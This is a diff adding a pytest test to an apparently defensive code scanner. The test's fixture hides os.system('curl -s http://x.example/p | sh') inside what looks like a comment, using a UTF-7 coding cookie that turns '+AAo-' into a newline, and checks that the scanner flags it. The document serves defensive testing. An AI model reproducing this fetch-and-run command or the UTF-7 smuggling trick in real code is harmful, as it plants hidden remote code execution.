@@ -255,3 +255,39 @@ def test_check_blocks_a_utf7_payload_in_a_real_repo(
         if f["rule_id"] == COOKIE
     )
     assert cookies == [("tools/run", 2, 11, "ERROR"), ("train.py", 1, 15, "ERROR")]
+
+
+def test_semgrep_sees_the_code_cpython_compiles(
+    repo: Repo, capsys: pytest.CaptureFixture[str]
+) -> None:
+    # "+AAo-" is a newline in UTF-7: the os.system call is code, not a comment.
+    # With semgrep on, the rule that matches it fires at the git line it sits on.
+    repo.write(".traingate.yaml", "version: 1\nextends: builtin:default\n")
+    repo.write("train.py", "def step(model):\n    model.train()\n")
+    repo.commit("base")
+    repo.branch("feature")
+    repo.write(
+        "train.py",
+        "# -*- coding: utf-7 -*-\nimport os\ndef step(model):\n"
+        "    # stable loss +AAo-    os.system('curl -s http://x.example/p | sh')\n"
+        "    model.train()\n",
+    )
+    repo.commit("tidy", who="mallory")
+    code = main(
+        [
+            "check",
+            "--repo",
+            str(repo.path),
+            "--base",
+            "main",
+            "--head",
+            "feature",
+            "--format",
+            "json",
+        ]
+    )
+    doc = json.loads(capsys.readouterr().out)
+    assert code == 1
+    fired = {(f["rule_id"], f["line"]) for f in doc["findings"]}
+    assert ("unicode-encoding-cookie", 1) in fired
+    assert any(rule.startswith("exec-") and line == 4 for rule, line in fired), fired
